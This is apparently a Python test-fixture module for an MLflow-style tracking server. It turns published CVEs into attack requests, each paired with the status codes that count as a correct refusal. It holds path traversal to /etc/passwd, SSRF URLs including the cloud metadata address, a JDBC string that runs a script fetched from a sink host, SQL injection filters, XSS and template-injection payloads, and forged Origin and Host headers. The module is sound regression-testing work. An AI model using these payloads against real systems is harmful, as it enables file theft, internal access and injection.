"""Published attacks on products of our kind, as requests to ours: by class, with the statuses that are right answers.

A row names what it was learnt from. The test fills in `{run}`, `{place}` (its folder of files), `{model}`, `{secret}`
(a file outside the project) and `{sink}` (an address that listens and wants to be called).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

API = "/api/2.0/mlflow"
FILES = "/api/2.0/mlflow-artifacts/artifacts"
REFUSED = frozenset((400, 404))
JSON = ("content-type", "application/json")
TEXT = ("content-type", "text/plain")


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One request.

    Attributes:
        source: what it was learnt from.
        kind: its class.
        method: the verb.
        target: path and query, as they go over the wire.
        body: bytes of the body; a value is sent as JSON.
        headers: besides Host.
        right: statuses that are right answers.
        changes: whether it may change rows: what is stored as plain text is no harm.
    """

    source: str
    kind: str
    method: str = "GET"
    target: str
    body: object = b""
    headers: tuple[tuple[str, str], ...] = ()
    right: frozenset[int] = REFUSED
    changes: bool = False

    @property
    def name(self) -> str:
        """What pytest calls it."""
        return f"{self.kind} {self.source} {self.method} {self.target[:60]}"


# Places that no logical key may lead to, each decoded once where it is a path and once where it is a query.
OUTSIDE = (
    ("CVE-2023-1176", "/etc/passwd"),
    ("CVE-2023-3765", "C:/windows/win.ini"),
    ("CVE-2023-3765", "//etc/passwd"),
    ("CVE-2023-6976", "../../../../../../etc/passwd"),
    ("CVE-2023-6831", "..\\..\\..\\etc\\passwd"),
    ("CVE-2024-1593", "x/..;/..;/etc/passwd/.."),
    ("CVE-2023-6020", "x/../../../etc/passwd"),
    ("CVE-2024-47166", ".."),
    ("CVE-2024-24591", "a/../../.bashrc"),
    ("encoding", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoding", "..%2f..%2fetc/passwd"),
    ("encoding", "x\0.txt"),
    ("encoding", "x\r\nSet-Cookie: a=b"),
    ("encoding", "\uff0e\uff0e/\uff0e\uff0e/etc/passwd\x00"),
    ("absolute", "{secret}"),
)
SOURCES = (
    ("CVE-2023-2356", "mlflow-artifacts:/../../../etc"),
    ("CVE-2023-6909", "http:///#/../../../etc/"),
    ("CVE-2024-8859", "dbfs:/x?/../../../etc/passwd"),
    ("CVE-2023-6018", "http://{sink}/api/2.0/mlflow-artifacts/artifacts/"),
    ("CVE-2024-2083", "/etc/passwd"),
    ("CVE-2022-36551", "file:///etc/passwd"),
    ("CVE-2023-43654", "http://169.254.169.254/latest/meta-data"),
    ("CVE-2024-35198", "https://ok.example@{sink}/"),
    ("CVE-2024-7768", "http://127.0.0.1:8470/api/2.0/mlflow"),
    ("CVE-2024-10553", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://{sink}/x'"),
    ("path", "mlflow-artifacts:/%2e%2e/%2e%2e/etc"),
    ("path", "mlflow-artifacts:/a\\..\\..\\etc"),
    ("path", "file://{secret}"),
)
QUERIES = (
    "' or 1=1 --",
    "name = 'x' or 1=1",
    "name = 'x'; drop table ledger",
    "tags.`a`b` = '1'",
    "name like '%' union select * from users",
    "1=1",
    "name = 'x",
    "password = 'x'",
    "tags.x = (select password from users)",
    "name = 'x' and " * 1000 + "name = 'y'",
    "(" * 5000,
)
ORDERS = (
    "name; drop table ledger",
    "(select 1)",
    "name desc, case when 1=1 then 1 end",
    "password",
    "1",
    "name collate x",
)
PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "{{7*7}}{{''.__class__.__mro__}}",
    "{0.__class__.__init__.__globals__}",
    '=HYPERLINK("http://evil.example")',
    "javascript:alert(1)",
)


def paths() -> Iterator[Attack]:
    """Paths of files: read, list, write and delete."""
    for source, path in OUTSIDE:
        asked, walked = quote(path, safe="{}"), quote(path, safe="/{}%")
        # "%2e%2e" in an address is ".." for everybody who decodes it once.
        for method in ("GET", "DELETE", "PUT"):
            body = b"stolen" if method == "PUT" else b""
            yield Attack(source=source, kind=f"path-{method}", method=method, target=f"{FILES}/{walked}", body=body)
            yield Attack(source=source, kind=f"path-{method}", method=method, target=f"{FILES}/{asked}", body=body)
        for target in (
            f"/get-artifact?run_uuid={{run}}&path={asked}",
            f"/model-versions/get-artifact?name=m&version=1&path={asked}",
            f"{API}/artifacts/list?run_id={{run}}&path={asked}",
            f"/api/2.0/mlflow-artifacts/artifacts?path={asked}",
            f"/ajax-api/2.0/mlflow/logged-models/{{model}}/artifacts/files?artifact_file_path={asked}",
        ):
            yield Attack(source=source, kind="path-query", target=target)
        yield Attack(
            source=source,
            kind="path-write",
            method="POST",
            target=f"/ajax-api/2.0/mlflow/upload-artifact?run_uuid={{run}}&path={asked}",
            body=b"stolen",
        )
        for page in ("/evidence/", "/runs/", "/predictions/", "/static/", "/api/v1/runs/"):
            yield Attack(source=source, kind="path-page", target=page + asked, right=frozenset((400, 404, 405)))


def sources() -> Iterator[Attack]:
    """Places that a client names and the server might open."""
    for number, (source, place) in enumerate(SOURCES):
        yield Attack(
            source=source,
            kind="source",
            method="POST",
            target=f"{API}/model-versions/create",
            body={"name": "m", "source": place, "run_id": "{run}"},
            right=frozenset((400,)),
        )
        yield Attack(
            source=source,
            kind="source",
            method="POST",
            target=f"{API}/experiments/create",
            body={"name": f"location {number}", "artifact_location": place},
            # A location elsewhere is a note for clients who go there by themselves; the server never opens it.
            right=frozenset((200, 400)),
            changes=True,
        )


def webhooks() -> Iterator[Attack]:
    """Addresses that a webhook may not call."""
    for source, url in (
        ("CVE-2026-2393", "http://169.254.169.254/latest"),
        ("CVE-2026-2393", "https://[::ffff:127.0.0.1]/x"),
        ("CVE-2023-6570", "https://{sink}/x"),
        ("CVE-2022-21697", "https://127.0.0.1:22/"),
        ("ssrf", "https://2130706433/"),
        ("ssrf", "https://0x7f.1/"),
        ("ssrf", "https://localhost/"),
        ("ssrf", "https://[::1]/"),
        ("ssrf", "https://10.0.0.1/"),
        ("ssrf", "https://[fd00::1]/"),
        ("ssrf", "https://0.0.0.0/"),
        ("ssrf", "file:///etc/passwd"),
        ("ssrf", "gopher://127.0.0.1/"),
        ("ssrf", "https://ok.example@127.0.0.1/"),
        ("ssrf", "//127.0.0.1/"),
    ):
        events = [{"entity": "REGISTERED_MODEL", "action": "CREATED"}]
        yield Attack(
            source=source,
            kind="ssrf",
            method="POST",
            target=f"{API}/webhooks",
            body={"name": "hook", "url": url, "events": events},
            right=frozenset((400,)),
        )


def foreign() -> Iterator[Attack]:
    """Pages of other sites, names that were bound anew, and verbs that were forgotten."""
    said = (
        ("CVE-2025-14279", ("host", "evil.example:8470")),
        ("CVE-2025-14279", ("host", "127.0.0.1.evil.example:8470")),
        ("CVE-2026-27482", ("origin", "http://evil.example")),
        ("CVE-2024-47084", ("origin", "http://localhost:9999")),
        ("CVE-2023-6022", ("origin", "null")),
        ("csrf", ("origin", "http://127.0.0.1:8470.evil.example")),
        ("csrf", ("sec-fetch-site", "cross-site")),
        ("csrf", ("sec-fetch-site", "same-site")),
    )
    for source, header in said:
        for method in ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"):
            for target in (
                f"{API}/registered-models/create",
                f"{FILES}/x",
                "/",
                "/v2",
                "/endpoints/x/predict",
                "/v1/traces",
            ):
                yield Attack(
                    source=source,
                    kind="csrf",
                    method=method,
                    target=target,
                    body={"name": "stolen"} if method != "GET" else b"",
                    headers=(header,),
                    right=frozenset((403,)),
                )
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        yield Attack(
            source="CVE-2023-6022",
            kind="csrf-form",
            method="POST",
            target=f"{API}/registered-models/create",
            body=json.dumps({"name": "stolen"}).encode(),
            headers=(("content-type", kind),),
            right=frozenset((400, 415)),
        )


def queries() -> Iterator[Attack]:
    """Filters and orders that are none."""
    for text in QUERIES:
        for method, target, body in (
            ("POST", f"{API}/runs/search", {"experiment_ids": ["0"], "filter": text}),
            ("POST", f"{API}/experiments/search", {"max_results": 10, "filter": text}),
            ("GET", f"{API}/registered-models/search?filter={quote(text)}", b""),
            ("GET", f"{API}/model-versions/search?filter={quote(text)}", b""),
            ("GET", f"/api/v1/runs?filter={quote(text)}", b""),
        ):
            yield Attack(
                source="order_by", kind="sqli", method=method, target=target, body=body, right=frozenset((400, 431))
            )
    for text in ORDERS:
        for method, target, body in (
            ("POST", f"{API}/runs/search", {"experiment_ids": ["0"], "order_by": [text]}),
            ("POST", f"{API}/experiments/search", {"max_results": 10, "order_by": [text]}),
            ("GET", f"{API}/registered-models/search?order_by={quote(text)}", b""),
        ):
            yield Attack(
                source="order_by", kind="sqli", method=method, target=target, body=body, right=frozenset((400,))
            )
    for token in ("x", "../x", "eyJhIjoxfQ==", "'", "\0", "9" * 5000):
        body = {"experiment_ids": ["0"], "page_token": token}
        yield Attack(
            source="replay",
            kind="token",
            method="POST",
            target=f"{API}/runs/search",
            body=body,
            right=frozenset((400,)),
        )


def workspaces() -> Iterator[Attack]:
    """Yield requests that would be in two workspaces at once, or in none that there is."""
    search = f"{API}/experiments/search?max_results=1"
    named = (
        "..",
        "../default",
        "team-a/../default",
        "TEAM-A",
        "default\0",
        "a" * 300,
        "%2e%2e",
        "team-a;x",
        "*",
        "{run}",
    )
    for name in named:
        yield Attack(
            source="confusion", kind="workspace by header", target=search, headers=(("x-mlflow-workspace", name),)
        )
        target = f"/workspaces/{quote(name, safe='{}')}{search}"
        yield Attack(source="confusion", kind="workspace by path", target=target)
    for path in (
        "/workspaces/team%2Da/runs", "/workspaces/%2e%2e/runs", "/workspaces/team-a%2fruns",
        "/workspaces/team-a%00/runs", "/workspaces/default/workspaces/default/runs", "/workspaces//default/runs",
        "/workspaces/default/../../etc/passwd", "/workspaces/default/login",
    ):  # fmt: skip
        yield Attack(source="confusion", kind="workspace by path", target=path)
    for other in ("team-b", "default "):
        yield Attack(
            source="confusion", kind="workspace by both", target=f"/workspaces/team-a{search}",
            headers=(("x-mlflow-workspace", other),),
        )  # fmt: skip
    at = "/api/3.0/mlflow/workspaces"
    for name in ("..", "api", "a", "Team", "x" * 64, "a/b", "a\0b"):
        yield Attack(
            source="names",
            kind="workspace made",
            method="POST",
            target="/api/3.0/mlflow/workspaces",
            body={"name": name},
        )
    for root in ("file:///etc", "s3://elsewhere", "http://{sink}/x", "/etc"):
        body = {"name": "team-x", "default_artifact_root": root}
        yield Attack(
            source="addresses", kind="workspace made", method="POST", target=at, body=body,
            right=frozenset((501,)),
        )  # fmt: skip


ATTACKS = (*paths(), *sources(), *webhooks(), *foreign(), *queries(), *workspaces())
